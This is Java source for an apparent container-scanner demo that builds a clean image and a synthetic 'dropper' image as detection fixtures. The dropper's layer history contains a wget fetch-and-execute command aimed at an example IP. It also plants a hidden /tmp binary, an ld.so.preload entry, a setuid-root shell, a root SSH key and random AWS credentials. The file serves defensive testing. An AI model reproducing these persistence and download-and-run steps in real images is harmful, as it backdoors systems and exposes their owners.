package dev.contraband.sample;

import dev.contraband.layer.Compression;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;

/**
 * The images {@code contraband demo} builds and scans: a clean application and a dropper that shares its base
 * layer and plants what the suspicious-artifacts family finds, one of them deleted by a later layer.
 */
public final class SampleImages {
    /** A sample written to disk: its name and the target that scans it. */
    public record Sample(String name, String target, String description) {
    }

    private static final String BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    private static final String BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    private static final java.security.SecureRandom RANDOM = new java.security.SecureRandom();

    private SampleImages() {
    }

    /** Credentials in the samples are made fresh each time, so none is ever committed or real. */
    private static String random(String alphabet, int n) {
        StringBuilder s = new StringBuilder(n);
        for (int i = 0; i < n; i++) {
            s.append(alphabet.charAt(RANDOM.nextInt(alphabet.length())));
        }
        return s.toString();
    }

    static LayerBuilder base() {
        return LayerBuilder.create()
                .dir("/bin").dir("/etc").dir("/tmp").dir("/usr/share/doc/app")
                .file("/etc/os-release", "PRETTY_NAME=\"Demo Linux 1.0\"\nID=demo\n")
                .file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n")
                .file("/bin/sh", SampleElf.program(), 0755)
                .file("/usr/bin/passwd", SampleElf.program(), 04755)
                .file("/usr/share/doc/app/README", "Temporary files go to /tmp; the app never runs anything from there.\n");
    }

    public static ImageBuilder.Built clean() {
        return ImageBuilder.create()
                .layer(base(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base in / ")
                .layer(LayerBuilder.create().dir("/app").file("/app/server", SampleElf.program(), 0755)
                        .file("/app/config.yaml", "listen: 0.0.0.0:8080\n"), Compression.GZIP, "COPY app /app # buildkit")
                .workingDir("/app")
                .entrypoint("/app/server")
                .cmd("--config", "/app/config.yaml")
                .build();
    }

    public static ImageBuilder.Built dropper() {
        return ImageBuilder.create()
                .layer(base(), Compression.GZIP, "/bin/sh -c #(nop) ADD file:base in / ")
                .layer(LayerBuilder.create()
                                .dir("/tmp/.cache")
                                .file("/tmp/.cache/kthreadd", SampleElf.program(), 0755)
                                .dir("/opt/.hidden")
                                .file("/opt/.hidden/loader", SampleElf.program(), 0755)
                                .file("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
                                .file("/usr/local/bin/rootsh", SampleElf.program(), 04755, 0, 0)
                                .dir("/root/.ssh")
                                .file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"
                                        + random(BASE64, 43) + " operator@c2\n")
                                .dir("/root/.aws")
                                .file("/root/.aws/credentials", "[default]\naws_access_key_id = AKIA" + random(BASE32, 16)
                                        + "\naws_secret_access_key = " + random(BASE64, 40) + "\n"),
                        Compression.ZSTD, "/bin/sh -c wget -q http://198.51.100.7/k -O /tmp/.cache/kthreadd && chmod +x /tmp/.cache/kthreadd")
                .layer(LayerBuilder.create().whiteout("/opt/.hidden/loader"), Compression.GZIP,
                        "/bin/sh -c rm /opt/.hidden/loader")
                .entrypoint("/bin/sh", "-c", "/tmp/.cache/kthreadd --background; exec sleep infinity")
                .build();
    }

    /** Writes the samples under {@code dir} and returns them in the order the demo scans them. */
    public static List<Sample> write(Path dir) throws IOException {
        Path cleanArchive = dir.resolve("clean-app.tar");
        ImageWriter.dockerArchive(cleanArchive, "demo/clean-app:1.0", clean(), true);
        Path dropperLayout = dir.resolve("dropper-oci");
        ImageWriter.ociLayout(dropperLayout, "latest", dropper());
        return List.of(
                new Sample("demo/clean-app:1.0", "docker-archive:" + cleanArchive,
                        "a clean application image, as `docker save` writes it"),
                new Sample("demo/dropper:latest", "oci:" + dropperLayout + ":latest",
                        "an image that plants a program in /tmp, preloads a library, adds a setuid-root shell, "
                                + "an SSH key for root and AWS credentials, and deletes one of its droppings in a later layer"));
    }
}
